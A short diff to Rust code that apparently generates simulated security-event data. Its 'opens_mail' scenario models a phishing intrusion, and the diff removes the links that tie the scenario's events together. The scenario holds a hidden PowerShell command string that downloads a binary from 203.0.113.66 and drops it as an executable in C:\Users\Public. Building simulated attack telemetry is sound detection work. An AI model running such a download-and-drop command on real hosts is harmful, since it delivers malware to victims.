@@ -60,13 +60,12 @@ fn opens_mail(tale: &mut Tale<'_>) {
         image: POWERSHELL,
         command: "powershell.exe -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.66/u.bin','C:\\Users\\Public\\u.exe')\"",
     };
-    let started = tale.command(at, PC, script);
+    tale.command(at, PC, script);
     let wire = tale.pen.wire(PC.ip, OUTSIDE, 80);
     let event = tale.pen.http(at.plus(2 * SECOND), &wire, "GET", OUTSIDE, "/u.bin");
-    let http = tale.quiet(event);
+    tale.quiet(event);
     let event = tale.pen.conn(at.plus(2 * SECOND), &wire, "http", 3);
-    let conn = tale.quiet(event);
-    tale.hop("address:203.0.113.66", "asset:office07", "flow", None, vec![started, http, conn]);
+    tale.quiet(event);
 }
 
 fn stays(tale: &mut Tale<'_>) {
